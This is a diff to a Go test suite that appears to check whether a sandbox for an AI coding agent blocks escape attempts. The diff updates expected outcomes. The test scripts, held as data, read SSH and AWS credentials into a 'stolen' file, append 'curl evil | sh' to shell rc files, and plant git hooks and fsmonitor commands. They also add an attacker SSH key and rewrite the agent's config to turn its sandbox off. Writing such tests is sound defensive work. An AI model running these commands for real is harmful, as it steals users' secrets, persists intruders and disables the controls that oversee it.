@@ -69,7 +69,6 @@ ln -sfn /proc/self/root%[2]s/later3.txt l3 && echo %[1]s > l3`, r.pwn(), r.out()
 		Script: func(r *run) string {
 			return `cat link-ssh; cat link-aws/credentials; cat ~/.ssh/id_canary; cp ~/.ssh/id_canary stolen 2>&1; cat stolen`
 		},
-		Expect: onLandlock(gap(llReadDeny)),
 		Fence: []fenceCall{readFile(rel("link-ssh")), readFile(rel("link-aws/credentials")),
 			readFile(func(r *run) string { return filepath.Join(r.home(), ".ssh", "id_canary") })},
 	},
@@ -459,7 +458,6 @@ sleep 0.2`, r.pwn(), r.out(), r.tok)
 			}
 			return nil
 		},
-		Expect: onLandlock(gapIntact(llSurvives)),
 	},
 	{
 		Name:      "environment-secrets",
@@ -529,8 +527,7 @@ kill -HUP $PPID %[2]s 2>&1; true`, so, r.cordonPid())
 		Script: func(r *run) string {
 			return fmt.Sprintf(`for f in .bashrc .bash_profile .profile .zshrc .zprofile; do echo 'echo %[1]s # curl evil | sh' >> $f; done 2>&1; rm -f .bashrc; echo %[1]s > .bashrc; mv mine.txt .zshrc`, r.pwn())
 		},
-		Expect: onLandlockWW(gap(llProtected)),
-		Fence:  []fenceCall{writeFile(rel(".bashrc")), writeFile(rel(".zshrc")), writeFile(rel(".vscode/tasks.json")), writeFile(rel(".mcp.json"))},
+		Fence: []fenceCall{writeFile(rel(".bashrc")), writeFile(rel(".zshrc")), writeFile(rel(".vscode/tasks.json")), writeFile(rel(".mcp.json"))},
 	},
 	{
 		Name: "shell-rc-in-home",
@@ -539,7 +536,7 @@ kill -HUP $PPID %[2]s 2>&1; true`, so, r.cordonPid())
 		Script: func(r *run) string {
 			return fmt.Sprintf(`for f in .bashrc .bash_profile .profile .zshrc .zprofile; do echo 'echo %[1]s' >> ~/$f; done 2>&1; cp ~/.bashrc /tmp/b; echo %[1]s >> /tmp/b; cp /tmp/b ~/.bashrc; mv -f /tmp/b ~/.bashrc`, r.pwn())
 		},
-		Expect: onLandlockWW(gap(llProtected)),
+		Expect: homeRefused(),
 		Fence:  []fenceCall{writeFile(rel(".bashrc")), writeFile(func(r *run) string { return filepath.Join(r.home(), ".zshrc") })},
 	},
 	{
@@ -568,7 +565,7 @@ printf '#!/bin/sh\necho %[1]s\nexec /usr/bin/git "$@"\n' > ~/.local/bin/git && c
 			return append(ev, humanRunsGit(r)...)
 		},
 		Fence:  []fenceCall{writeFile(rel(".zshenv")), writeFile(rel(".gitconfig"))},
-		Expect: map[string]outcome{"bwrap/workspace-write": gap(unlisted), "landlock/workspace-write": gap(unlisted)},
+		Expect: homeRefused(),
 	},
 	{
 		Name:  "git-hooks",
@@ -577,8 +574,7 @@ printf '#!/bin/sh\necho %[1]s\nexec /usr/bin/git "$@"\n' > ~/.local/bin/git && c
 		Script: func(r *run) string {
 			return fmt.Sprintf(`printf '%[1]s' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; cp .git/hooks/pre-commit .git/hooks/post-commit; rm -f .git/hooks/*.sample; ln -s ../../x .git/hooks/pre-push`, hookPayload(r))
 		},
-		Check:  humanRunsGit,
-		Expect: onLandlockWW(gap(llProtected)),
+		Check: humanRunsGit,
 		Fence: []fenceCall{{Tool: "write_file", Args: func(r *run) map[string]any {
 			return map[string]any{"path": ".git/hooks/pre-commit", "content": hookScript(r)}
 		}}},
@@ -592,8 +588,7 @@ printf '#!/bin/sh\necho %[1]s\nexec /usr/bin/git "$@"\n' > ~/.local/bin/git && c
 git config core.hooksPath evil-hooks 2>&1; git config core.fsmonitor 'echo hooked > %[2]s/hook-ran-%[3]s; false' 2>&1
 printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = false/bare = false\n\tfsmonitor = true/' .git/config 2>&1`, hookPayload(r), r.out(), r.tok)
 		},
-		Check:  humanRunsGit,
-		Expect: onLandlockWW(gap(llProtected)),
+		Check: humanRunsGit,
 		Fence: []fenceCall{{Tool: "edit_file", Args: func(r *run) map[string]any {
 			return map[string]any{"path": ".git/config", "old_string": "[core]", "new_string": "[core]\n\thooksPath = evil-hooks"}
 		}}},
@@ -606,8 +601,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		Script: func(r *run) string {
 			return fmt.Sprintf(`mv .git .git-old && mkdir .git && (cd .git-old && tar cf - --exclude=./hooks --exclude=./config .) | (cd .git && tar xf -) && cp .git-old/config .git/config && mkdir .git/hooks && printf '%[1]s' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo ESCAPED-%[2]s:git-dir-replaced`, hookPayload(r), r.tok)
 		},
-		Check:  humanRunsGit,
-		Expect: onLandlock(gap(llProtected)),
+		Check: humanRunsGit,
 	},
 	{
 		Name:  "git-commondir",
@@ -622,7 +616,6 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		},
 		Script: func(r *run) string { return `echo ../evil > .git/commondir` },
 		Check:  humanRunsGit,
-		Expect: map[string]outcome{"bwrap/workspace-write": gap(commonDir), "landlock/workspace-write": gap(commonDir)},
 	},
 	{
 		Name:  "git-worktree-forged",
@@ -667,7 +660,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 			return `printf 'mode = "danger-full-access"\nsandbox = "off"\n' > ~/.config/cordon/config.toml; printf 'sandbox = "off"\n' >> .config/cordon/config.toml`
 		},
 		Check:  checkPosture,
-		Expect: onLandlockWW(gap(llProtected)),
+		Expect: homeRefused(),
 		Fence:  []fenceCall{writeFile(rel(".config/cordon/config.toml"))},
 	},
 	{
@@ -682,7 +675,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 			return fmt.Sprintf(`mv ~/.config ~/.config-old && mkdir -p ~/.config/cordon && printf 'mode = "danger-full-access"\nsandbox = "off"\n' > ~/.config/cordon/config.toml && echo ESCAPED-%s:config-replaced`, r.tok)
 		},
 		Check:  checkPosture,
-		Expect: onLandlock(gap(llProtected)),
+		Expect: homeRefused(),
 	},
 	{
 		Name: "cordon-workspace-config",
@@ -693,9 +686,8 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		Script: func(r *run) string {
 			return `printf 'mode = "danger-full-access"\nsandbox = "off"\nextra_write_allow = ["/"]\n' > cordon.toml; mkdir -p .cordon && printf 'sandbox = "off"\nnetwork = "allow"\n' > .cordon/config.toml`
 		},
-		Check:  checkWorkspacePosture,
-		Expect: onLandlockWW(gap(llProtected)),
-		Fence:  []fenceCall{writeFile(rel("cordon.toml")), writeFile(rel(".cordon/config.toml"))},
+		Check: checkWorkspacePosture,
+		Fence: []fenceCall{writeFile(rel("cordon.toml")), writeFile(rel(".cordon/config.toml"))},
 	},
 	{
 		Name: "cordon-state-write",
@@ -720,8 +712,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		Script: func(r *run) string {
 			return fmt.Sprintf(`cat %[1]s/canary.txt; cat %[1]s/http-token; head -c 2000 %[1]s/sessions/*.jsonl`, r.w.state)
 		},
-		Expect: onLandlock(gap(llReadDeny)),
-		Fence:  []fenceCall{readFile(func(r *run) string { return filepath.Join(r.w.state, "canary.txt") })},
+		Fence: []fenceCall{readFile(func(r *run) string { return filepath.Join(r.w.state, "canary.txt") })},
 	},
 	{
 		Name:  "cordon-state-dir-rename",
@@ -732,7 +723,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		Script: func(r *run) string {
 			return fmt.Sprintf(`mv ~/.local ~/.local-old && mkdir -p ~/.local/state/cordon/sessions && echo forged > ~/.local/state/cordon/sessions/forged.jsonl && echo ESCAPED-%s:state-replaced`, r.tok)
 		},
-		Expect: onLandlock(gap(llProtected)),
+		Expect: homeRefused(),
 	},
 	{
 		Name:     "cordon-mode-from-inside",
@@ -750,7 +741,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		Home:     true,
 		Script:   modeFromInside,
 		Check:    checkModeFromInside,
-		Expect:   onLandlockWW(gap(llProtected)),
+		Expect:   homeRefused(),
 	},
 	{
 		Name:  "http-token-self-approval",
@@ -791,7 +782,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		Script: func(r *run) string {
 			return fmt.Sprintf(`echo 'ssh-ed25519 AAAA-attacker %[1]s' >> ~/.ssh/authorized_keys; printf 'Host *\n  ProxyCommand sh -c "echo %[1]s"\n' >> ~/.ssh/config; rm -rf ~/.ssh 2>&1; mv ~/.ssh ~/.ssh-old`, r.pwn())
 		},
-		Expect: onLandlockWW(gap(llReadDeny)),
+		Expect: homeRefused(),
 		Fence:  []fenceCall{writeFile(rel(".ssh/authorized_keys")), writeFile(rel(".ssh/config"))},
 	},
 
